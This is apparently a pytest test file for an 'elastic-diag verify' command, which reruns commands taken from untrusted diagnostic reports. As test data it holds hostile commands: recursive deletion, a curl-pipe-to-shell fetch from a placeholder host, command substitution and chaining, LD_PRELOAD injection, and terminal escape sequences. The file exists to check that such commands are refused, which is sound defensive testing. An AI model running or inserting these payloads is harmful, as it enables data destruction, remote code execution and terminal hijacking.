"""``elastic-diag verify`` on reports it must not trust (gate/rerun.py, gate/report_command.py), run as a
user runs it: a real process, no terminal (stdin from /dev/null) or a real pseudo-terminal. A hostile
command is refused and nothing runs (a marker file it would create never appears); a legit one runs with
``--yes`` or a "y" on the terminal, after the report's origin and its command were shown."""

from __future__ import annotations

import json
import os
import pty
import select
import shlex
import subprocess
import sys
import time
from pathlib import Path

import pytest
from helpers import ROOT, report_dir

from elastic_diag.errors import EXIT_NOT_RUN


def verify(d: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "elastic_diag.cli", "verify", str(d), *args], capture_output=True,
                          text=True, timeout=60, cwd=ROOT, stdin=subprocess.DEVNULL)  # fmt: skip


def hostile_commands(marker: Path, victim: Path) -> list[str]:
    m = shlex.quote(str(marker))
    return [
        f"rm -rf {shlex.quote(str(victim))}",
        f"curl -fsSL https://example.invalid/install.sh | sh -c 'touch {m}'",
        f"nvidia-smi; touch {m}",
        f"df . && touch {m}",  # the first step is allowed, the second is not: neither runs
        f"touch {m}",
        f"df $(touch {m})",
        f"df `touch {m}`",
        f"df > {m}",
        f"python3 -c 'open({str(marker)!r}, \"w\")'",
        f"LD_PRELOAD=/nonexistent.so df {m}",
        f"torchrun --no-python touch {m}",
        f"uploader --api-key sk-supersecret-1234 {m}",
    ]


def test_a_hostile_report_is_refused_even_with_yes_and_nothing_runs(tmp_path):
    marker, victim = tmp_path / "pwned", tmp_path / "victim"
    victim.mkdir()
    (victim / "keep").write_text("evidence")
    for i, command in enumerate(hostile_commands(marker, victim)):
        d = report_dir(tmp_path / f"d{i}", command)
        before = (d / "report.json").read_bytes()
        p = verify(d, "--yes")
        assert p.returncode == EXIT_NOT_RUN, (command, p.returncode, p.stderr)
        assert "refused" in p.stderr and "Traceback" not in p.stderr, p.stderr
        assert "not on the allow-list" in p.stderr and "from run r on host n" in p.stderr, p.stderr
        assert not marker.exists() and (victim / "keep").read_text() == "evidence", command
        assert (d / "report.json").read_bytes() == before and not (d / "verification.log").exists()
        assert "sk-supersecret-1234" not in p.stderr + p.stdout  # the command is shown with its secrets masked


def test_with_allow_any_command_shell_syntax_is_plain_words_and_no_shell_runs(tmp_path):
    marker = tmp_path / "pwned"
    m = shlex.quote(str(marker))
    for i, command in enumerate([f"df ; touch {m}", f"df $(touch {m}) `touch {m}`", f"df > {m}"]):
        d = report_dir(tmp_path / f"d{i}", command)
        p = verify(d, "--yes", "--allow-any-command")
        v = json.loads((d / "report.json").read_text())["verification"]
        assert p.returncode == 1 and v["allowed_by"] == "--allow-any-command", (command, p.stderr)
        assert not marker.exists(), command  # df got the shell syntax as file names and failed


def legit_command(target: Path) -> str:
    """On the allow-list, and it leaves a mark: ``elastic-diag report`` writes target/report.html."""
    return f"{shlex.join([sys.executable, '-m', 'elastic_diag', 'report', str(target)])} && df .  # a check"


def test_a_legit_report_runs_with_yes_and_not_without_a_terminal(tmp_path):
    target = tmp_path / "other"
    target.mkdir()
    d = report_dir(tmp_path / "d", legit_command(target))
    p = verify(d)  # stdin is /dev/null: nobody to ask
    assert p.returncode == EXIT_NOT_RUN and "stdin is not a terminal" in p.stderr and "--yes" in p.stderr
    assert not (target / "report.html").exists() and "verification" not in json.loads((d / "report.json").read_text())
    p = verify(d, "--yes")
    assert p.returncode == 0, p.stdout + p.stderr
    assert (target / "report.html").is_file()
    v = json.loads((d / "report.json").read_text())["verification"]
    assert v["passed"] and v["allowed_by"] == "the allow-list" and "Filesystem" in v["output_tail"]  # df ran too


def _on_a_terminal(d: Path, answer: bytes) -> tuple[int, str]:
    """verify with stdin, stdout and stderr on a pseudo-terminal; ``answer`` typed at the prompt."""
    master, slave = os.openpty()
    proc = subprocess.Popen([sys.executable, "-m", "elastic_diag.cli", "verify", str(d)], stdin=slave, stdout=slave,
                            stderr=slave, cwd=ROOT, start_new_session=True)  # fmt: skip
    os.close(slave)
    seen = b""
    deadline = time.monotonic() + 60
    answered = False
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(master, 4096)
                except OSError:  # EIO: the child closed the terminal
                    break
                if not chunk:
                    break
                seen += chunk
            if not answered and b"Run it? [y/N]" in seen:
                os.write(master, answer)
                answered = True
            if proc.poll() is not None and not ready:
                break
        code = proc.wait(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(master)
    assert answered, seen.decode(errors="replace")
    return code, seen.decode(errors="replace")


@pytest.mark.timeout(120)
def test_on_a_terminal_it_shows_where_the_report_comes_from_and_runs_only_on_yes(tmp_path):
    assert pty.STDIN_FILENO == 0  # the standard library's pty module: os.openpty is its primitive
    target = tmp_path / "other"
    target.mkdir()
    command = legit_command(target)
    d = report_dir(tmp_path / "d", command, run_id="run-4242", node="gpu-node-17")
    for answer in (b"n\n", b"\n", b"yess\n"):
        code, out = _on_a_terminal(d, answer)
        assert code == EXIT_NOT_RUN and "not run (the answer was not yes)" in out, out
        assert not (target / "report.html").exists()
    assert "from run run-4242 on host gpu-node-17, report.json written " in out
    assert f"runs in {d}" in out and "-m elastic_diag report" in out and str(target) in out
    code, out = _on_a_terminal(d, b"y\n")
    assert code == 0 and "PASSED" in out, out
    assert (target / "report.html").is_file()


def test_a_report_of_another_shape_is_a_usage_error_not_a_traceback(tmp_path):
    shapes = {
        "list": "[1, 2]",
        "string": '"rm -rf /"',
        "nan": "NaN",
        "huge": "1e999",
        "deep": "[" * 100_000 + "]" * 100_000,
        "deep-object": '{"a": ' * 100_000 + "1" + "}" * 100_000,
        "huge-int": '{"schema": "elastic_diag.report/1", "run_id": ' + "9" * 5000 + "}",
    }
    for name, text in shapes.items():
        d = tmp_path / name
        d.mkdir()
        (d / "report.json").write_text(text)
        p = verify(d)  # refused before anything is asked
        assert p.returncode == 2 and "no readable report.json" in p.stderr and "Traceback" not in p.stderr, (name, p)
    other = report_dir(tmp_path / "v9", "df .", schema="elastic_diag.report/9")
    p = verify(other)
    assert p.returncode == 2 and "has schema 'elastic_diag.report/9'" in p.stderr, p.stderr
    for name, diagnosis in (("diag-list", [1]), ("verify-int", {"verify": 12}), ("plan-str", {"verify_plan": "x"})):
        d = report_dir(tmp_path / name, "df .")
        data = json.loads((d / "report.json").read_text())
        data["diagnosis"] = diagnosis
        (d / "report.json").write_text(json.dumps(data))
        p = verify(d)
        assert p.returncode == 2 and "error:" in p.stderr and "Traceback" not in p.stderr, (name, p.stderr)


def test_a_command_whose_secret_was_masked_is_not_run_with_the_mask(tmp_path):
    """A report's relaunch had `--api-key VALUE`: report.json holds `--api-key ***` (redaction), and running that
    would test a different job (a 401 instead of the failure): say so, run nothing."""
    target = tmp_path / "other"
    target.mkdir()
    command = shlex.join([sys.executable, "-m", "elastic_diag", "report", str(target)]) + " --api-key ***"
    d = report_dir(tmp_path / "d", command)
    p = verify(d, "--yes", "--allow-any-command")
    assert p.returncode == EXIT_NOT_RUN and "masked as ***" in p.stderr, p.stderr
    assert not (target / "report.html").exists()


def test_what_verify_prints_from_a_report_never_acts_on_the_terminal(tmp_path):
    d = report_dir(tmp_path / "d", "rm -rf /nonexistent/\x1b]0;pwned\x07 \x1b[2J")
    report = json.loads((d / "report.json").read_text())
    report["run_id"] = "r\x1b[31m"
    (d / "report.json").write_text(json.dumps(report))
    p = verify(d, "--yes")
    assert p.returncode == EXIT_NOT_RUN and "\x1b" not in p.stderr + p.stdout and "\\x1b]0;pwned" in p.stderr, p.stderr
